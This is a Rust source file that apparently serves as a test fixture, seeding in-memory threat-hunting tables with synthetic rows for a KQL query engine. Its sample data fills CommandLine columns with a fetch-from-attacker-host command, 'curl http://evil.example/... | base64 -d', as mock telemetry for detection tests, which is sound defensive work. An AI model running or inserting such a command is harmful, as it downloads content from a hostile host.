//! A catalog of all hunting tables with a few seeded rows each, built from ../shared/reference/hunting-schema.json; in
//! its absence from the product's own tables.

use arrow::array::{
    ArrayRef, BooleanArray, Float64Array, Int32Array, Int64Array, RecordBatch, StringArray, TimestampMicrosecondArray,
};
use arrow::compute::cast;
use arrow::datatypes::{DataType, Field, Schema};
use datafusion::catalog::TableProvider;
use datafusion::datasource::MemTable;
use garrison_kql::{Catalog, Column, TableShape, Type};
use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Arc;

/// 2026-11-01 00:00:00 UTC.
pub const NOW: i64 = 1_793_491_200_000_000;
const HOUR: i64 = 3_600_000_000;

/// A file of ../shared, if it is there.
pub fn shared(path: &str) -> Option<String> {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared");
    std::fs::read_to_string(root.join(path)).ok()
}

pub struct Estate {
    tables: BTreeMap<String, (Arc<TableShape>, Arc<MemTable>)>,
}

impl Catalog for Estate {
    fn names(&self) -> Vec<String> {
        self.tables.keys().cloned().collect()
    }

    fn shape(&self, table: &str) -> Option<Arc<TableShape>> {
        self.tables.get(table).map(|t| Arc::clone(&t.0))
    }

    fn provider(&self, table: &str) -> Option<Arc<dyn TableProvider>> {
        self.tables.get(table).map(|t| Arc::clone(&t.1) as Arc<dyn TableProvider>)
    }
}

const PROFILES: &[(&str, &str)] = &[
    ("SHA1", "string"),
    ("SHA256", "string"),
    ("MD5", "string"),
    ("FileSize", "long"),
    ("GlobalPrevalence", "long"),
    ("GlobalFirstSeen", "datetime"),
    ("GlobalLastSeen", "datetime"),
    ("Signer", "string"),
    ("Issuer", "string"),
    ("SignerHash", "string"),
    ("IsCertificateValid", "bool"),
    ("IsRootSignerMicrosoft", "bool"),
    ("SignatureState", "string"),
    ("IsExecutable", "bool"),
    ("ThreatName", "string"),
    ("Publisher", "string"),
    ("SoftwareName", "string"),
    ("ProfileAvailability", "string"),
];

impl Estate {
    /// All tables, `rows` rows each, in batches of `batch` rows.
    pub fn new(rows: usize, batch: usize) -> Self {
        let mut shapes: BTreeMap<String, Vec<(String, String)>> = BTreeMap::new();
        if let Some(text) = shared("reference/hunting-schema.json") {
            let all: serde_json::Value = serde_json::from_str(&text).unwrap();
            for (name, columns) in all.as_object().unwrap() {
                let columns = columns.as_array().unwrap();
                let text = |c: &serde_json::Value, k: &str| c[k].as_str().unwrap().to_owned();
                shapes.insert(name.clone(), columns.iter().map(|c| (text(c, "name"), text(c, "type"))).collect());
            }
        } else {
            for t in garrison_telemetry::tables() {
                let columns = t.columns.iter().map(|c| (c.name.to_owned(), c.kind.as_str().to_owned())).collect();
                shapes.insert(t.name.to_owned(), columns);
            }
        }
        shapes.insert(
            "FileProfiles".to_owned(),
            PROFILES.iter().map(|(n, t)| ((*n).to_owned(), (*t).to_owned())).collect(),
        );
        let tables = shapes.into_iter().map(|(name, columns)| {
            let (shape, table) = table(&name, &columns, rows, batch);
            (name, (shape, table))
        });
        Self { tables: tables.collect() }
    }
}

fn kind(name: &str) -> Type {
    match name {
        "bool" => Type::Bool,
        "int" => Type::Int,
        "long" => Type::Long,
        "real" => Type::Real,
        "datetime" => Type::Datetime,
        "dynamic" => Type::Dynamic,
        "string" => Type::Text,
        other => panic!("{other}"),
    }
}

fn table(name: &str, columns: &[(String, String)], rows: usize, batch: usize) -> (Arc<TableShape>, Arc<MemTable>) {
    let shape = TableShape {
        name: name.to_owned(),
        columns: columns.iter().map(|(n, t)| Column::new(n.clone(), kind(t))).collect(),
    };
    let arrays: Vec<ArrayRef> = shape.columns.iter().enumerate().map(|(i, c)| values(c, i, rows)).collect();
    let fields: Vec<Field> =
        shape.columns.iter().zip(&arrays).map(|(c, a)| Field::new(&c.name, a.data_type().clone(), true)).collect();
    let schema = Arc::new(Schema::new(fields));
    let all = RecordBatch::try_new(Arc::clone(&schema), arrays).unwrap();
    let batches = (0..rows).step_by(batch.max(1)).map(|at| all.slice(at, batch.max(1).min(rows - at))).collect();
    (Arc::new(shape), Arc::new(MemTable::try_new(schema, vec![batches]).unwrap()))
}

/// Values that agree between tables (devices, accounts, hashes), so that joins find something; each kind of text
/// encoding and absent text occur.
fn values(column: &Column, at: usize, rows: usize) -> ArrayRef {
    let rows = i64::try_from(rows).unwrap();
    let n = column.name.as_str();
    match column.kind {
        Type::Bool => Arc::new((0..rows).map(|r| (r % 5 != 4).then_some(r % 2 == 0)).collect::<BooleanArray>()),
        Type::Int => {
            Arc::new((0..rows).map(|r| (r % 7 != 6).then_some(i32::try_from(r).unwrap() * 10)).collect::<Int32Array>())
        }
        Type::Long => Arc::new((0..rows).map(|r| (r % 7 != 6).then_some(1000 + r % 4)).collect::<Int64Array>()),
        #[allow(clippy::cast_precision_loss, reason = "small numbers")]
        Type::Real => Arc::new((0..rows).map(|r| (r % 6 != 5).then_some(r as f64 * 1.5)).collect::<Float64Array>()),
        Type::Datetime => Arc::new(
            (0..rows).map(|r| Some(NOW - (r + 1) * HOUR)).collect::<TimestampMicrosecondArray>().with_timezone("UTC"),
        ),
        Type::Dynamic => {
            let texts =
                (0..rows).map(|r| (r % 4 != 3).then(|| format!("{{\"a\":{r},\"list\":[1,\"x\"],\"t\":\"v{r}\"}}")));
            Arc::new(texts.collect::<StringArray>())
        }
        _ => {
            let texts: StringArray = (0..rows)
                .map(|r| match n {
                    "DeviceId" => Some(format!("device-{}", r % 3)),
                    "DeviceName" => Some(format!("host-{}.example.org", r % 3)),
                    n if n.contains("FileName") => {
                        Some(["sh", "curl", "Bash", "python3"][usize::try_from(r % 4).unwrap()].to_owned())
                    }
                    n if n.contains("CommandLine") => Some(format!("sh -c 'curl http://evil.example/{r} | base64 -d'")),
                    n if n.contains("SHA1") => Some(format!("{:040x}", r % 5)),
                    n if n.contains("SHA256") => Some(format!("{:064x}", r % 5)),
                    n if n.contains("IP") => Some(format!("10.0.0.{}", r % 6)),
                    "ActionType" => Some(
                        ["ProcessCreated", "ConnectionSuccess", "FileCreated"][usize::try_from(r % 3).unwrap()]
                            .to_owned(),
                    ),
                    _ if r % 5 == 4 => None,
                    _ => Some(format!("{n}-{}", r % 3)),
                })
                .collect();
            let texts: ArrayRef = Arc::new(texts);
            let kind = match at % 3 {
                0 => DataType::Dictionary(Box::new(DataType::Int32), Box::new(DataType::Utf8)),
                1 => DataType::Utf8View,
                _ => DataType::Utf8,
            };
            cast(&texts, &kind).unwrap()
        }
    }
}
